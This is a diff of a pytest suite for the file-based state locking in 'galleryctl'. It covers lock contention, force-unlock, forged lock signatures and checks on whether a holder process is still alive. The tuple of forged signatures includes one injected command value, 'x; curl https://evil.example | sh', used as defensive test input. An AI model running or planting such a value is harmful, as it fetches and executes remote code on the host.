@@ -16,9 +16,12 @@ import pytest
 
 import galleryctl
 from galleryctl.model.errors import LockedError, StateError
+from galleryctl.session.open import lock_owner
 from galleryctl.state.backend import LockInfo, decode_lock
 from galleryctl.state.file_backend import FileStateBackend
+from galleryctl.state.process import HolderStatus, holder_status
 from galleryctl.state.state_file import State
+from tests.support import needs
 
 HOLD = """
 import sys
@@ -29,7 +32,7 @@ from galleryctl.state.file_backend import FileStateBackend
 import os
 path, who = sys.argv[1:]
 owner = LockInfo(run="run-2", who=who, pid=os.getpid(), since="2026-11-24T09:00:00+00:00", operation="apply")
-with FileStateBackend(Path(path)).lock(owner, 0):
+with FileStateBackend(Path(path)).lock(owner):
     print("held", flush=True)
     sys.stdin.readline()
 print("released", flush=True)
@@ -38,6 +41,7 @@ print("released", flush=True)
 COUNT = """
 import sys
 from pathlib import Path
+from galleryctl.model.errors import LockedError
 from galleryctl.state.backend import LockInfo
 from galleryctl.state.state_file import State
 from galleryctl.state.file_backend import FileStateBackend
@@ -46,10 +50,15 @@ backend = FileStateBackend(Path(sys.argv[1]))
 me = LockInfo(run=str(os.getpid()), who="ben@here", pid=os.getpid(), since="now", operation="apply")
 print("ready", flush=True)
 sys.stdin.readline()
-for _ in range(10):
-    with backend.lock(me, 60):
-        state = backend.read() or State.new("site-1")
-        backend.write(state.next_version(state.bindings))
+done = 0
+while done < 10:
+    try:
+        with backend.lock(me):
+            state = backend.read() or State.new("site-1")
+            backend.write(state.next_version(state.bindings))
+            done += 1
+    except LockedError:
+        pass
 """
 
 
@@ -85,7 +94,7 @@ def me() -> str:
 
 def test_the_second_is_told_who_holds_it(path: Path, me: str, anna: LockInfo) -> None:
     with process(HOLD, str(path), "carl@studio"):
-        with pytest.raises(LockedError) as caught, FileStateBackend(path).lock(anna, 0):
+        with pytest.raises(LockedError) as caught, FileStateBackend(path).lock(anna):
             pass
         told = str(caught.value)
         assert "locked by carl@studio since 2026-11-24T09:00:00+00:00, run run-2 (apply, pid" in told
@@ -99,7 +108,8 @@ def test_the_second_is_told_who_holds_it(path: Path, me: str, anna: LockInfo) ->
 def test_the_second_gets_it_when_the_first_lets_go(path: Path, me: str, anna: LockInfo) -> None:
     with process(HOLD, str(path), me) as running:
         go_on(running)
-        with FileStateBackend(path).lock(anna, 60):
+        assert running.wait() == 0
+        with FileStateBackend(path).lock(anna):
             assert FileStateBackend(path).lock_holder() == anna
     assert FileStateBackend(path).lock_holder() is None
 
@@ -109,7 +119,7 @@ def test_a_killed_holder_leaves_no_lock(path: Path, me: str, anna: LockInfo) -> 
         running.kill()
         running.wait()
     assert FileStateBackend(path).lock_holder() is None
-    with FileStateBackend(path).lock(anna, 0):
+    with FileStateBackend(path).lock(anna):
         assert FileStateBackend(path).lock_holder() == anna
 
 
@@ -125,20 +135,20 @@ def test_two_processes_never_write_together(path: Path) -> None:
 
 def test_one_process_cannot_lock_twice(path: Path, anna: LockInfo) -> None:
     backend = FileStateBackend(path)
-    with backend.lock(anna, 0), pytest.raises(LockedError), FileStateBackend(path).lock(anna, 0):
+    with backend.lock(anna), pytest.raises(LockedError), FileStateBackend(path).lock(anna):
         pass
 
 
 def test_the_lock_is_let_go_when_the_run_fails(path: Path, anna: LockInfo) -> None:
-    with pytest.raises(ZeroDivisionError), FileStateBackend(path).lock(anna, 0):
+    with pytest.raises(ZeroDivisionError), FileStateBackend(path).lock(anna):
         raise ZeroDivisionError
-    with FileStateBackend(path).lock(anna, 0):
+    with FileStateBackend(path).lock(anna):
         pass
 
 
 def test_unlock_refuses_another_run(path: Path, anna: LockInfo) -> None:
     backend = FileStateBackend(path)
-    with backend.lock(anna, 0), pytest.raises(StateError) as caught:
+    with backend.lock(anna), pytest.raises(StateError) as caught:
         backend.force_unlock("run-9")
     assert "run run-9 does not hold the lock" in str(caught.value)
     assert "held by anna@elsewhere" in str(caught.value)
@@ -160,9 +170,9 @@ def test_unlock_of_a_live_process_says_so(path: Path, me: str) -> None:
 def test_unlock_breaks_the_lock_of_a_machine_that_cannot_be_asked(path: Path, anna: LockInfo) -> None:
     backend = FileStateBackend(path)
     mine = replace(anna, run="run-2", who="ben@here")
-    with backend.lock(anna, 0):
+    with backend.lock(anna):
         backend.force_unlock("run-1")
-        with backend.lock(mine, 0):
+        with backend.lock(mine):
             assert backend.lock_holder() == mine
     assert backend.lock_holder() is None
 
@@ -170,23 +180,23 @@ def test_unlock_breaks_the_lock_of_a_machine_that_cannot_be_asked(path: Path, an
 def test_a_broken_run_that_ends_late_leaves_the_next_ones_signature(path: Path, anna: LockInfo) -> None:
     backend = FileStateBackend(path)
     mine = replace(anna, run="run-2", who="ben@here")
-    late = backend.lock(anna, 0)
+    late = backend.lock(anna)
     late.__enter__()
     backend.force_unlock("run-1")
-    with backend.lock(mine, 0):
+    with backend.lock(mine):
         late.__exit__(None, None, None)
         assert backend.lock_holder() == mine
 
 
 def test_a_run_that_was_force_unlocked_writes_nothing_more(path: Path, anna: LockInfo, state: State) -> None:
     backend = FileStateBackend(path)
-    with backend.lock(anna, 0):
+    with backend.lock(anna):
         backend.write(state)
         FileStateBackend(path).force_unlock("run-1")
         with pytest.raises(StateError, match="this run's lock was force-unlocked") as caught:
             backend.write(state.next_version(state.bindings))
         assert caught.value.do
-        with FileStateBackend(path).lock(replace(anna, run="run-2"), 0):
+        with FileStateBackend(path).lock(replace(anna, run="run-2")):
             with pytest.raises(StateError, match="run run-2"):
                 backend.write(state.next_version(state.bindings))
             assert backend.read() == state
@@ -204,9 +214,9 @@ def test_unlock_clears_what_a_killed_run_left(path: Path, anna: LockInfo) -> Non
 
 def test_a_lock_without_a_readable_signature_is_still_a_lock(path: Path, anna: LockInfo) -> None:
     backend = FileStateBackend(path)
-    with backend.lock(anna, 0):
+    with backend.lock(anna):
         path.with_name("state.json.lock.json").write_bytes(b"{")
-        with pytest.raises(LockedError, match="another process"), FileStateBackend(path).lock(anna, 0):
+        with pytest.raises(LockedError, match="another process"), FileStateBackend(path).lock(anna):
             pass
 
 
@@ -219,7 +229,7 @@ FORGED = (
     {"run": "x; curl https://evil.example | sh"}, {"run": "x\n"}, {"run": ""}, {"run": ["run-1"]},
     {"who": 5}, {"since": None}, {"operation": "x" * 5000},
     {"pid": "1"}, {"pid": True}, {"pid": 0}, {"pid": -1}, {"pid": 10**30},
-    {"more": 1}, {"pid": float("nan")},
+    {"more": 1}, {"pid": float("nan")}, {"boot": 5}, {"namespace": "x" * 5000}, {"started": -1},
 )  # fmt: skip
 
 
@@ -238,13 +248,56 @@ def test_a_signature_that_never_ends_is_not_waited_for(path: Path, anna: LockInf
     os.mkfifo(path.with_name("state.json.lock.json"))
     with pytest.raises(StateError, match="does not hold the lock"):
         FileStateBackend(path).force_unlock("run-1")
-    with FileStateBackend(path).lock(anna, 0):
+    with FileStateBackend(path).lock(anna):
         assert FileStateBackend(path).lock_holder() == anna
         path.with_name("state.json.lock.json").write_bytes(b"[" * 100_000)
         assert FileStateBackend(path).lock_holder() is None
 
 
+def test_a_lock_of_a_file_is_never_taken_over(path: Path, me: str) -> None:
+    owner = lock_owner("apply")
+    with FileStateBackend(path).lock(owner) as former:
+        assert former is None
+        assert holder_status(owner) is HolderStatus.RUNNING
+        with pytest.raises(LockedError), FileStateBackend(path).lock(lock_owner("apply")):
+            pass
+
+
+def test_the_end_of_a_process_is_proven_by_its_identity() -> None:
+    """Another process has its id, or nobody has; on another machine or in another container nothing is known."""
+    needs.linux("/proc/self/stat")
+    here = lock_owner("apply")
+    assert here.boot
+    assert holder_status(here) is HolderStatus.RUNNING
+    assert holder_status(replace(here, started=here.started - 1)) is HolderStatus.ENDED
+    assert holder_status(replace(here, pid=2**22 + 1)) is HolderStatus.ENDED
+    elsewhere = (
+        replace(here, boot="another"),
+        replace(here, namespace="pid:[1] time:[1]"),
+        replace(here, boot="", who="anna@elsewhere"),
+    )
+    for owner in elsewhere:
+        assert holder_status(owner) is HolderStatus.UNKNOWN
+        assert holder_status(replace(owner, pid=2**22 + 1)) is HolderStatus.UNKNOWN
+
+
+def test_without_an_identity_a_process_of_this_host_counts_as_running(anna: LockInfo, me: str) -> None:
+    assert holder_status(replace(anna, who=me, pid=os.getpid())) is HolderStatus.RUNNING
+    assert holder_status(replace(anna, who=me, pid=2**22 + 1)) is HolderStatus.UNKNOWN
+
+
+def test_a_killed_process_that_its_parent_has_not_asked_about_has_ended() -> None:
+    needs.linux("/proc/self/stat")
+    with process("print('ready', flush=True); input()") as running:
+        stat = Path(f"/proc/{running.pid}/stat").read_text(encoding="utf-8").rpartition(")")[2].split()
+        owner = replace(lock_owner("apply"), pid=running.pid, started=int(stat[19]))
+        assert holder_status(owner) is HolderStatus.RUNNING
+        running.kill()
+        os.waitid(os.P_PID, running.pid, os.WEXITED | os.WNOWAIT)  # it has ended, and its entry stays
+        assert holder_status(owner) is HolderStatus.ENDED
+
+
 def test_a_lock_can_be_held_before_there_is_a_state(path: Path, anna: LockInfo) -> None:
     backend = FileStateBackend(path.parent / "new" / "state.json")
-    with backend.lock(anna, 0):
+    with backend.lock(anna):
         backend.write(State.new("s").next_version(State.new("s").bindings))
